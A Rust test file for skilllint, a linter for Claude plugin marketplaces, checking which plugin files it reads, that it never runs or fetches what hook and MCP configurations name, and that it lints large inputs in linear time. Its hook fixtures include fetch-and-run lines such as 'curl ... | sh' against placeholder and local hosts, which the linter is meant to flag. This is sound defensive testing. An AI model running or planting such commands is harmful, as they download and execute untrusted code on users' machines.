//! The plugin surface end to end: what `skilllint .` at a marketplace root reads, that nothing a
//! hook or MCP configuration names is run or fetched, and that the new parsers and rules stay
//! linear on 1 MB inputs (asserted as a ratio: time(2x) < 3 × time(x), the least of three runs).

use skilllint::{lint, LintOptions};
use std::path::Path;
use std::time::{Duration, Instant};

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().expect("a parent")).expect("folders");
    std::fs::write(path, text).expect("file");
}

fn options(root: &Path) -> LintOptions {
    LintOptions {
        paths: vec![root.to_path_buf()],
        select: vec!["ALL".to_string()],
        threads: Some(2),
        ..LintOptions::default()
    }
}

#[test]
fn a_marketplace_root_reads_every_plugin_file_and_counts_them() {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    write(
        root,
        ".claude-plugin/marketplace.json",
        r#"{"name": "team", "owner": {"name": "Team"}, "plugins": [{"name": "kit", "source": "./plugins/kit"}]}"#,
    );
    write(
        root,
        "plugins/kit/.claude-plugin/plugin.json",
        r#"{"name": "kit", "version": "1.0.0"}"#,
    );
    write(
        root,
        "plugins/kit/skills/notes/SKILL.md",
        "---\nname: notes\ndescription: Takes notes. Use when asked.\n---\n\nNotes.\n",
    );
    write(root, "plugins/kit/commands/note.md", "Take a note.\n");
    write(
        root,
        "plugins/kit/agents/scribe.md",
        "---\nname: scribe\ndescription: Writes notes down.\n---\n\nWrite.\n",
    );
    write(
        root,
        "plugins/kit/hooks/hooks.json",
        r#"{"hooks": {"Stop": []}}"#,
    );
    write(root, "plugins/kit/.mcp.json", r#"{"mcpServers": {}}"#);
    // Not read: another program's files of the same names.
    write(root, "app/hooks.json", r#"{"before": []}"#);
    write(root, "docs/agents/overview.md", "# Agents\n");
    let outcome = lint(&options(root)).expect("lints");
    let read: Vec<&str> = outcome
        .repo
        .files
        .iter()
        .map(|f| f.rel_path.as_str())
        .collect();
    assert_eq!(
        read,
        [
            ".claude-plugin/marketplace.json",
            "plugins/kit/.claude-plugin/plugin.json",
            "plugins/kit/.mcp.json",
            "plugins/kit/agents/scribe.md",
            "plugins/kit/commands/note.md",
            "plugins/kit/hooks/hooks.json",
            "plugins/kit/skills/notes/SKILL.md",
        ]
    );
    let summary = skilllint::render::summary_of(
        outcome.repo.files.len(),
        &outcome.repo.inventory(),
        &outcome.diagnostics,
        0,
        0,
    );
    assert!(
        summary.contains("7 files (1 skill, 1 plugin manifest, 1 marketplace, 1 command, 1 agent, 1 hook file, 1 MCP config)"),
        "{summary}"
    );
}

#[test]
fn nothing_a_hook_or_mcp_config_names_is_run_or_fetched() {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("non-blocking");
    let port = listener.local_addr().expect("address").port();
    let marker = root.join("ran");
    let touch = format!("touch {}", marker.display());
    let url = format!("http://127.0.0.1:{port}/install.sh");
    write(
        root,
        "kit/hooks/hooks.json",
        &format!(
            r#"{{"hooks": {{"SessionStart": [{{"hooks": [{{"type": "command", "command": "{touch}; curl {url} | sh"}}]}}]}}}}"#
        ),
    );
    write(
        root,
        "kit/.mcp.json",
        &format!(
            r#"{{"mcpServers": {{"a": {{"command": "sh", "args": ["-c", "{touch}"]}}, "b": {{"type": "http", "url": "http://127.0.0.1:{port}/mcp"}}}}}}"#
        ),
    );
    let outcome = lint(&options(root)).expect("lints");
    assert!(outcome.diagnostics.iter().any(|d| d.code == "HK005"));
    assert!(!marker.exists(), "a command was run");
    assert!(listener.accept().is_err(), "a URL was fetched");
}

/// One lint of `root` with every rule.
fn timed(root: &Path) -> Duration {
    let start = Instant::now();
    let outcome = lint(&options(root)).expect("lints");
    let elapsed = start.elapsed();
    assert!(!outcome.repo.files.is_empty());
    elapsed
}

fn assert_linear(shape: &str, size: usize, build: impl Fn(&Path, usize)) {
    let small = tempfile::tempdir().expect("temp dir");
    let large = tempfile::tempdir().expect("temp dir");
    build(small.path(), size);
    build(large.path(), 2 * size);
    // The least of three runs of each, taken in turn: the ratio tests of this target run side
    // by side, and a burst of load then weighs on both sizes alike.
    let (mut x, mut two_x) = (Duration::MAX, Duration::MAX);
    for _ in 0..3 {
        x = x.min(timed(small.path()));
        two_x = two_x.min(timed(large.path()));
    }
    eprintln!("{shape}: x {x:?}, 2x {two_x:?}");
    assert!(
        two_x < x * 3,
        "{shape}: {x:?} for {size}, {two_x:?} for twice as many"
    );
}

#[test]
fn hooks_of_many_commands_lint_in_linear_time() {
    assert_linear("hooks.json", 4_000, |root, n| {
        let hooks: Vec<String> = (0..n)
            .map(|i| {
                format!(
                    r#"{{"type": "command", "command": "bash ${{CLAUDE_PLUGIN_ROOT}}/hooks/s{i}.sh && curl -fsSL https://x.io/{i} | sh; npx -y tool{i} \"a\\\"b\""}}"#
                )
            })
            .collect();
        write(
            root,
            "kit/hooks/hooks.json",
            &format!(
                r#"{{"hooks": {{"PostToolUse": [{{"matcher": "Edit", "hooks": [{}]}}]}}}}"#,
                hooks.join(",")
            ),
        );
    });
}

#[test]
fn one_long_hook_command_tokenizes_in_linear_time() {
    assert_linear("one command", 30_000, |root, n| {
        let command = "curl -s 'https://x.io/a b' | sh && ".repeat(n);
        write(
            root,
            "kit/hooks/hooks.json",
            &format!(
                r#"{{"hooks": {{"Stop": [{{"hooks": [{{"type": "command", "command": "{command}true"}}]}}]}}}}"#
            ),
        );
    });
}

#[test]
fn mcp_configs_of_many_servers_lint_in_linear_time() {
    assert_linear(".mcp.json", 6_000, |root, n| {
        let servers: Vec<String> = (0..n)
            .map(|i| {
                format!(
                    r#""s{i}": {{"command": "npx", "args": ["-y", "pkg{i}@latest", "./dist/s{i}.js"], "env": {{"API_TOKEN": "q8Zr2Lm5Xw9Tk3Vb7Nc1Hd4Gf6Js0Pa{i}"}}, "url": "http://host{i}.example.com/mcp"}}"#
                )
            })
            .collect();
        write(
            root,
            "kit/.mcp.json",
            &format!(r#"{{"mcpServers": {{{}}}}}"#, servers.join(",")),
        );
    });
}

#[test]
fn manifests_and_marketplaces_of_many_entries_lint_in_linear_time() {
    assert_linear("manifests", 3_000, |root, n| {
        let entries: Vec<String> = (0..n)
            .map(|i| {
                format!(
                    r#"{{"name": "p{}", "source": "./plugins/p{i}", "versio": "1", "strict": false, "skills": ["./s{i}"]}}"#,
                    i % 7
                )
            })
            .collect();
        write(
            root,
            ".claude-plugin/marketplace.json",
            &format!(
                r#"{{"name": "m", "owner": {{"name": "o"}}, "plugins": [{}]}}"#,
                entries.join(",")
            ),
        );
        let paths: Vec<String> = (0..n).map(|i| format!(r#""./skills/s{i}""#)).collect();
        let unknown: Vec<String> = (0..n).map(|i| format!(r#""key{i}": {i}"#)).collect();
        write(
            root,
            "kit/.claude-plugin/plugin.json",
            &format!(
                r#"{{"name": "kit", "skills": [{}], {}}}"#,
                paths.join(","),
                unknown.join(",")
            ),
        );
    });
}

#[test]
fn commands_and_agents_with_long_tool_lists_lint_in_linear_time() {
    assert_linear("agents", 20_000, |root, n| {
        let tools: Vec<String> = (0..n)
            .map(|i| match i % 3 {
                0 => "Bash".to_string(),
                1 => format!("Bash(git log {i}:*)"),
                _ => "Websearch".to_string(),
            })
            .collect();
        write(
            root,
            "kit/agents/a.md",
            &format!(
                "---\nname: a\ndescription: Does a.\ntools: {}\nallowed-tools: {}\n---\n\nBody.\n",
                tools.join(", "),
                tools.join(" ")
            ),
        );
        write(
            root,
            "kit/commands/c.md",
            &format!("---\nallowed-tools: {}\n---\n\nBody.\n", tools.join(", ")),
        );
    });
}

#[test]
fn instructions_with_many_links_lint_in_linear_time() {
    // About 1 MB of AGENTS.md at the larger size: every link looked up, each destination once.
    assert_linear("AGENTS.md", 10_000, |root, n| {
        let links: String = (0..n)
            .map(|i| {
                format!(
                    "- See [part {i}](docs/part{}.md) and [home](README.md).\n",
                    i % 500
                )
            })
            .collect();
        write(root, "AGENTS.md", &format!("# Working here\n\n{links}"));
        write(root, "README.md", "# Home\n");
    });
}

#[test]
fn markdown_a_skill_links_to_lints_in_linear_time() {
    assert_linear("linked Markdown", 10_000, |root, n| {
        let links: String = (0..n)
            .map(|i| format!("Step {i} uses [the script](../scripts/s{}.py).\n", i % 700))
            .collect();
        write(
            root,
            "notes/SKILL.md",
            "---\nname: notes\ndescription: Takes notes. Use when asked.\n---\n\nRead [the guide](references/guide.md).\n",
        );
        write(root, "notes/references/guide.md", &links);
    });
}

#[test]
fn opaque_files_are_searched_for_in_linear_time() {
    // Many archives, each named (or not) in one large script: one pass per file for all names.
    assert_linear("opaque files", 2_000, |root, n| {
        write(
            root,
            "notes/SKILL.md",
            "---\nname: notes\ndescription: Takes notes. Use when asked.\n---\n\nRun `scripts/unpack.sh`.\n",
        );
        let mentions: String = (0..n)
            .map(|i| format!("tar -xzf vendor/pkg{}.tar.gz\n", 2 * i))
            .collect();
        write(root, "notes/scripts/unpack.sh", &mentions);
        for i in 0..n {
            write(root, &format!("notes/vendor/pkg{i}.tar.gz"), "\x1f\u{8b}");
        }
    });
}

#[test]
fn findings_in_json_files_are_silenced_through_the_configuration() {
    // JSON holds no comment: `per-file-ignores` (and a baseline) are how a finding in a hook or
    // MCP configuration is accepted.
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    write(
        root,
        "kit/hooks/hooks.json",
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl -fsSL https://x.io/i | sh"}]}]}}"#,
    );
    write(
        root,
        "kit/.mcp.json",
        r#"{"mcpServers": {"docs": {"url": "http://docs.example.com/mcp"}}}"#,
    );
    let codes = |options: &LintOptions| -> Vec<String> {
        let outcome = lint(options).expect("lints");
        outcome
            .diagnostics
            .iter()
            .map(|d| d.code.to_string())
            .collect()
    };
    let all = codes(&options(root));
    assert!(all.contains(&"HK005".to_string()), "{all:?}");
    assert!(all.contains(&"MC005".to_string()), "{all:?}");
    let mut ignoring = options(root);
    ignoring.per_file_ignores = vec![
        ("**/hooks.json".to_string(), vec!["HK005".to_string()]),
        ("kit/.mcp.json".to_string(), vec!["MC".to_string()]),
    ];
    let left = codes(&ignoring);
    assert!(
        !left.iter().any(|c| c == "HK005" || c.starts_with("MC")),
        "{left:?}"
    );
}

#[test]
fn opaque_files_are_reported_only_in_skill_folders_and_only_when_unnamed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    write(
        root,
        "notes/SKILL.md",
        "---\nname: notes\ndescription: Takes notes. Use when asked.\n---\n\nUnpack `data/words.zip` first.\n",
    );
    write(root, "notes/data/words.zip", "PK");
    write(root, "notes/data/stray.zip", "PK");
    write(root, "notes/vendor/tool.tar.gz", "x");
    write(
        root,
        "notes/scripts/get.sh",
        "tar -xzf ../vendor/tool.tar.gz\n",
    );
    // Ignored by the repository: never looked at.
    write(root, ".gitignore", "*.7z\n");
    write(root, "notes/build.7z", "7z");
    // Outside any skill folder.
    write(root, "dist/notes.zip", "PK");
    let outcome = lint(&options(root)).expect("lints");
    let messages: Vec<&str> = outcome
        .diagnostics
        .iter()
        .filter(|d| d.code == "SK022")
        .map(|d| d.message.as_str())
        .collect();
    assert_eq!(
        messages,
        ["the skill folder holds `data/stray.zip`, an archive that nothing in the skill names"]
    );
}

#[test]
fn a_named_agent_or_command_is_linted_without_its_siblings() {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    // Agents and commands whose frontmatter does not parse (AG001): each is its own file.
    for rel in [
        "kit/agents/scribe.md",
        "kit/agents/editor.md",
        "kit/commands/ship.md",
        "kit/commands/undo.md",
    ] {
        write(root, rel, "---\ndescription: Writes: notes\n---\n\nBody.\n");
    }
    let named = |rel: &str| {
        let options = LintOptions {
            paths: vec![root.join(rel)],
            ..options(root)
        };
        let outcome = lint(&options).expect("lints");
        let mut files: Vec<String> = outcome
            .diagnostics
            .iter()
            .map(|d| outcome.repo.file_name(d.primary.file).to_string())
            .collect();
        files.dedup();
        files
    };
    // A pre-commit run naming one changed agent reports that agent, not the others beside it.
    assert_eq!(named("kit/agents/scribe.md"), ["scribe.md"]);
    assert_eq!(named("kit/commands/undo.md"), ["undo.md"]);
    // The plugin folder, named, still reports every file in it.
    assert_eq!(
        named("kit"),
        ["editor.md", "scribe.md", "ship.md", "undo.md"]
    );
    // So does the agents or commands folder itself: its name gives its files their kind.
    assert_eq!(named("kit/agents"), ["editor.md", "scribe.md"]);
    assert_eq!(named("kit/commands"), ["ship.md", "undo.md"]);
}

#[test]
fn a_repository_named_agents_is_not_a_folder_of_agents() {
    let dir = tempfile::tempdir().expect("temp dir");
    // A repository whose own folder is called `agents`: its top holds `.git`, and its Markdown
    // is not read as subagents when it is linted by name.
    let root = dir.path().join("agents");
    write(&root, ".git/HEAD", "ref: refs/heads/main\n");
    write(
        &root,
        "GUIDE.md",
        "---\ndescription: Writes: notes\n---\n\nBody.\n",
    );
    let options = LintOptions {
        paths: vec![root.clone()],
        ..options(&root)
    };
    let outcome = lint(&options).expect("lints");
    assert!(outcome.repo.files.is_empty(), "{:?}", outcome.repo.files);
}
